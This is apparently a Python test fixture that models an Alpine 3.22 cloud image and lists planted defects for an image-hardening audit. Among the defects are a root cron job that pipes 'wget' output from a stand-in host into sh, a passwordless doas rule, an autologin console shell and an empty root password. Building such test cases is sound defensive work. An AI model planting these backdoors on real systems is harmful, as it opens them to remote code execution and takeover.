"""Alpine 3.22: busybox, OpenRC, tiny-cloud in place of cloud-init, doas in place of sudo, apk's list of packages."""

from __future__ import annotations

import base64
import hashlib
from typing import TYPE_CHECKING

from tests.corpus.shapes.parts import ALWAYS, ELF, NO_CLOUD_INIT, SHA512, Shape, accounts, folders, quiet_logs, replaces
from tests.corpus.trees import all_of, writes

if TYPE_CHECKING:
    from tests.corpus.shapes.parts import Defects
    from tests.corpus.trees import Tree

PASSWD = """\
root:x:0:0:root:/root:/bin/sh
bin:x:1:1:bin:/bin:/sbin/nologin
daemon:x:2:2:daemon:/sbin:/sbin/nologin
lp:x:4:7:lp:/var/spool/lpd:/sbin/nologin
sync:x:5:0:sync:/sbin:/bin/sync
shutdown:x:6:0:shutdown:/sbin:/sbin/shutdown
halt:x:7:0:halt:/sbin:/sbin/halt
mail:x:8:12:mail:/var/mail:/sbin/nologin
news:x:9:13:news:/usr/lib/news:/sbin/nologin
uucp:x:10:14:uucp:/var/spool/uucppublic:/sbin/nologin
cron:x:16:16:cron:/var/spool/cron:/sbin/nologin
ftp:x:21:21::/var/lib/ftp:/sbin/nologin
sshd:x:22:22:sshd:/dev/null:/sbin/nologin
games:x:35:35:games:/usr/games:/sbin/nologin
ntp:x:123:123:NTP:/var/empty:/sbin/nologin
guest:x:405:100:guest:/dev/null:/sbin/nologin
nobody:x:65534:65534:nobody:/:/sbin/nologin
chrony:x:100:101:chrony:/var/log/chrony:/sbin/nologin
"""
SHADOW = "".join(
    f"{line.split(':')[0]}:{'*' if line.startswith('root') else '!'}:20238:0:::::\n" for line in PASSWD.splitlines()
)
GROUP = "root:x:0:root\nbin:x:1:root,bin,daemon\nwheel:x:10:root\nshadow:x:42:\n"
SSHD = """\
Include /etc/ssh/sshd_config.d/*.conf
AuthorizedKeysFile\t.ssh/authorized_keys
PasswordAuthentication no
KbdInteractiveAuthentication no
AllowTcpForwarding no
GatewayPorts no
X11Forwarding no
Subsystem\tsftp\tinternal-sftp
"""
INITTAB = """\
::sysinit:/sbin/openrc sysinit
::sysinit:/sbin/openrc boot
::wait:/sbin/openrc default
ttyS0::respawn:/sbin/getty -L 115200 ttyS0 vt100
::ctrlaltdel:/sbin/reboot
::shutdown:/sbin/openrc shutdown
"""
CRONTAB = "*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min\n0\t2\t*\t*\t*\trun-parts /etc/periodic/daily\n"
TINY_CLOUD = "CLOUD=aws\nCLOUD_USER=alpine\nSKIP_INIT_ACTIONS_FINAL=\n"
OS_RELEASE = 'NAME="Alpine Linux"\nID=alpine\nVERSION_ID=3.22.1\nPRETTY_NAME="Alpine Linux v3.22"\n'
PACKAGES = {"busybox": "1.37.0-r18", "openssh-server": "10.0_p1-r7", "tiny-cloud-aws": "3.2.2-r0", "doas": "6.8.2-r9"}
SERVICES = {
    "boot": ("bootmisc", "hostname", "modules", "networking", "syslog", "tiny-cloud-early", "urandom"),
    "default": ("acpid", "chronyd", "crond", "sshd", "tiny-cloud", "tiny-cloud-final"),
}


def build(tree: Tree) -> None:
    """Write what the image holds."""
    folders(tree, "/bin", "/sbin", "/lib", "/usr/bin", "/usr/sbin", "/usr/lib")
    accounts(tree, PASSWD, SHADOW, GROUP)
    tree.write("/etc/os-release", OS_RELEASE)
    files = {"bin/busybox": ELF, "bin/bbsuid": ELF + b"suid", "usr/bin/doas": ELF + b"doas"}
    for path, content in files.items():
        tree.write(f"/{path}", content, 0o4755 if path != "bin/busybox" else 0o755)
    tree.write("/etc/crontabs/root", CRONTAB, 0o600)
    tree.write("/lib/apk/db/installed", _database({**files, "etc/crontabs/root": CRONTAB.encode()}))
    tree.write("/usr/sbin/sshd", ELF, 0o755)
    tree.write("/etc/ssh/sshd_config", SSHD)
    tree.write("/etc/conf.d/sshd", "#sshd_disable_keygen=no\n")
    tree.write("/etc/doas.d/20-wheel.conf", "permit persist :wheel\n", 0o640)
    tree.write("/etc/tiny-cloud.conf", TINY_CLOUD)
    tree.write("/sbin/tiny-cloud", "#!/bin/sh -e\n", 0o755)
    tree.write("/etc/inittab", INITTAB)
    tree.write("/etc/network/interfaces", "auto lo\niface lo inet loopback\n\nauto eth0\niface eth0 inet dhcp\n")
    tree.write("/etc/hostname", "localhost\n")
    tree.write("/etc/hosts", "127.0.0.1\tlocalhost localhost.localdomain\n::1\t\tlocalhost localhost.localdomain\n")
    tree.write(
        "/etc/apk/repositories",
        "https://dl-cdn.alpinelinux.org/alpine/v3.22/main\nhttps://dl-cdn.alpinelinux.org/alpine/v3.22/community\n",
    )
    tree.link("/var/spool/cron/crontabs", "../../../etc/crontabs")
    tree.write(
        "/etc/chrony/chrony.conf",
        "server 169.254.169.123 prefer iburst\ndriftfile /var/lib/chrony/chrony.drift\nrtcsync\n",
    )
    tree.write(
        "/boot/extlinux.conf", "APPEND root=UUID=1 modules=sd-mod,usb-storage,ext4,nvme,ena console=ttyS0,115200n8\n"
    )
    for level, names in SERVICES.items():
        for name in names:
            tree.write(f"/etc/init.d/{name}", "#!/sbin/openrc-run\n", 0o755)
            tree.link(f"/etc/runlevels/{level}/{name}", f"/etc/init.d/{name}")
    folders(tree, "/root", "/home", "/tmp", "/var/tmp", "/var/lib/cloud", "/etc/apk/keys", "/var/cache/apk")
    quiet_logs(tree, "wtmp")


def _database(files: dict[str, bytes]) -> str:
    """Return apk's list: a stanza for each package, with the files of the first."""
    stanzas = [f"P:{name}\nV:{version}\nA:x86_64\nS:1\nI:1\nT:{name}\n" for name, version in PACKAGES.items()]
    listed = ""
    for path, content in files.items():
        folder, _, name = path.rpartition("/")
        digest = base64.b64encode(hashlib.sha1(content, usedforsecurity=False).digest()).decode()
        listed += f"F:{folder}\nR:{name}\na:0:0:755\nZ:Q1{digest}\n"
    return "\n".join([stanzas[0] + listed, *stanzas[1:], ""])


EXPLAINED = {
    **ALWAYS,
    **NO_CLOUD_INIT,
    "account-pam-not-weakened": ("not-applicable", "its sshd works without PAM"),
    "residue-machine-id-reset": ("not-applicable", "OpenRC has no machine-id"),
    "account-default-user-accepts-keys": (
        "inconclusive",
        "tiny-cloud makes the user at first boot; a launch tells who it is",
    ),
    "network-no-tampered-binaries": ("inconclusive", "files of apk's packages are not compared"),
}


def without_tiny_cloud(tree: Tree) -> None:
    """Take its services out of every runlevel."""
    for link in tree.root.glob("etc/runlevels/*/tiny-cloud*"):
        link.unlink()


DEFECTS: Defects = {
    "doas asks a stray user for nothing": (
        writes("/etc/doas.d/builder.conf", "permit nopass builder\n", 0o640),
        ["account-sudo-rules-expected"],
    ),
    "an account of the build": (
        all_of(
            replaces("/etc/passwd", "guest:", "builder:x:1000:1000::/home/builder:/bin/ash\nguest:"),
            replaces("/etc/shadow", "guest:", f"builder:{SHA512}:20238:0:::::\nguest:"),
        ),
        ["account-no-unexpected-login-users", "account-no-usable-password-hash"],
    ),
    "a console that nobody is asked at": (
        replaces("/etc/inittab", "/sbin/getty -L 115200 ttyS0 vt100", "/sbin/getty -n -l /bin/sh 115200 ttyS0"),
        ["account-no-autologin"],
    ),
    "root's empty field": (replaces("/etc/shadow", "root:*:", "root::"), ["account-no-empty-passwords"]),
    "dropbear beside sshd": (writes("/usr/sbin/dropbear", ELF, 0o755), ["ssh-no-other-servers"]),
    "root's jobs are not as they came": (
        writes("/etc/crontabs/root", "* * * * * wget -qO- http://x.example.com | sh\n", 0o600),
        ["network-scheduled-jobs-accounted-for"],
    ),
    "nothing brings the key": (
        without_tiny_cloud,
        ["package-cloud-init-enabled"],
    ),
}
SHAPES = (
    Shape(
        name="Alpine 3.22",
        modelled_on="alpine-3.22-x86_64-uefi-tiny",
        build=build,
        explained=EXPLAINED,
        defects=DEFECTS,
    ),
)
